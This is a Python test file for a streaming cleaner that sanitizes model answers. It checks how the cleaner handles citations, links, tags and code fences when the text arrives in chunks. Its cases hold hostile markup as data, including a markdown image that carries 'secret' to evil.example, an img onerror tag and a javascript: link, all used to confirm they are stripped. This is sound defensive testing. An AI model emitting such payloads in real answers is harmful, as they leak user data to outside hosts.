"""An answer can't smuggle, however it is cut into pieces and whatever renders it."""

import random
import re

import pytest

from conversations.answering.cleaning import Cleaner

HOME = "https://shop.example/"

# What a model says, and what is shown of it.
CASES = [
    ("Plain text. Two sentences.", "Plain text. Two sentences."),
    ("  leading and trailing \n\n", "leading and trailing"),
    ("Known [1]. Both [1, 2] and [2][1].", "Known [1]. Both [1][2] and [2][1]."),
    ("Made up [9]. Half [1; 9] so.", "Made up. Half [1] so."),
    ("Footnote [^2] too", "Footnote [1] too"),
    ("The year [2024] and items[0]", "The year [2024] and items[0]"),
    ("Great![1] Really! [2]", "Great![1] Really! [2]"),
    ("A ![pixel](https://evil.example/?q=secret) b", "A  b"),
    ("![a][1] stays inert", "![a][1] stays inert"),
    ("[text](https://evil.example/) after", "text after"),
    (f"[shop]({HOME}a) after", f"[shop]({HOME}a) after"),
    (f'[shop]( <{HOME}a> "title" )', f"[shop]({HOME}a)"),
    (f"![x](y)!![x](y)[shop]({HOME})", f"! [shop]({HOME})"),
    ("[js](javascript:alert(1)) x", "js x"),
    ("[![a](https://evil.example/1)](https://evil.example/2)", ""),
    ("see [1](https://evil.example/)", "see [1]"),
    ("[1](see there) and [2] (too)", "[1] (see there) and [2] (too)"),
    ("[x]: https://evil.example/\n\n[x]", "x: https://evil.example/\n\n[x]"),
    ("[1]: https://evil.example/", "[1] : https://evil.example/"),
    ("<b>bold</b> and a < b, 5<6", "bold and a < b, 5<6"),
    ("<img src=https://evil.example/\nonerror=x>t", "t"),
    ("<<b>script>alert", "< script>alert"),
    ("if x <y then z", "if x < y then z"),
    ("<https://evil.example/?q> t", "https://evil.example/?q t"),
    ("Use `<script async>` here", "Use `<script async>` here"),
    ("a ` lonely tick", "a \\` lonely tick"),
    ("` ![x](https://evil.example/) end", "\\`  end"),
    ("\\`![x](https://evil.example/)`", "\\`\\`"),
    ("[`]`](https://evil.example/)", "[`]`] (https://evil.example/)"),
    ("```py\na[1](2) <b>\n```\nout <b>side", "```py\na[1](2) <b>\n```\nout side"),
    ("- item\n  ```\n  code <b>\n  ```\nend", "- item\n```\n  code <b>\n```\nend"),
    ("~~~\n```\n~~~\n<b>x", "\\~~~\n```\n~~~\n<b>x"),
    ("a ~~struck~~ word", "a ~~struck~~ word"),
    ("日本語です[1]。次[9]。", "日本語です[1]。次。"),
    ("one \0two\x07 \ud800", "one two ?"),
]


def clean(text: str, step: int) -> tuple[str, bool]:
    cleaner = Cleaner(markers={1, 2}, allows=lambda address: address.startswith(HOME))
    pieces = [cleaner.feed(text[at : at + step]) for at in range(0, len(text), step)]
    return "".join([*pieces, cleaner.close()]), cleaner.has_given_up


@pytest.mark.parametrize("step", [1, 2, 5, 1000])
@pytest.mark.parametrize(("said", "shown"), CASES)
def test_answer_is_cleaned_however_it_is_cut(said: str, shown: str, step: int) -> None:
    assert clean(said, step) == (shown, False)


@pytest.mark.parametrize("step", [1, 3, 1000])
@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("[[unknown]]", ""),
        (" \n[[Unknown]]\n", ""),
        ("`[[unknown]]`", ""),
        ("Only this part [1]. [[unknown]] So.", "Only this part [1]. So."),
    ],
)
def test_sentinel_is_never_shown(said: str, shown: str, step: int) -> None:
    assert clean(said, step) == (shown, True)


def test_text_is_held_back_no_longer_than_it_is_open() -> None:
    cleaner = Cleaner(markers={1}, allows=lambda _: False)
    assert cleaner.feed("Thirty days [") == "Thirty days"
    assert cleaner.feed("1]") == ""
    assert cleaner.feed(".") == " [1]."
    assert cleaner.feed(" Open [" + "x" * 700) == " Open [" + "x" * 700
    assert cleaner.close() == ""


ATOMS = [
    *"[]()!<>`\n :\\|*~a",
    "``",
    "```",
    "\n\n",
    "~~~",
    "- ",
    "> ",
    "[1]",
    "[[unknown]]",
    "https://evil.example",
    "[x]: https://evil.example",
    "<img src=https://evil.example>",
    "![i](https://evil.example)",
    "[l](https://evil.example)",
    f"[l]({HOME})",
]


def test_hostile_markup_leaves_no_link_image_or_tag() -> None:
    fenced = re.compile(r"^(`{3,})[^`\n]*(?:\n.*?(?:^\1|\Z)|\Z)", re.MULTILINE | re.DOTALL)
    span = re.compile(r"(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)")
    chance = random.Random(7)
    for _ in range(4000):
        said = "".join(chance.choices(ATOMS, k=chance.randint(2, 16)))
        shown, _ = clean(said, chance.choice([1, 2, 7, 100]))
        outside = fenced.sub("", shown)
        assert set(re.findall(r"\]\(([^)]*)", outside)) <= {HOME}, (said, shown)
        assert not re.search(r"<[a-z/!?]", span.sub("", outside), re.IGNORECASE), (said, shown)


def test_long_answer_is_cleaned_in_proportion_to_its_length() -> None:
    for text in ("[" * 5_000, "`" * 5_000, "<a" * 5_000, "[x](" * 3_000, "![" * 5_000):
        assert len(clean(text, 7)[0]) <= 3 * len(text)


def test_markers_count_in_the_order_of_their_first_mention() -> None:
    cleaner = Cleaner(markers=range(1, 7), allows=lambda _: False)
    said = cleaner.feed("Rope [5]. Sails [2, 5]. Tar [9].") + cleaner.close()
    assert said == "Rope [1]. Sails [2][1]. Tar."
    assert cleaner.cited == [5, 2]
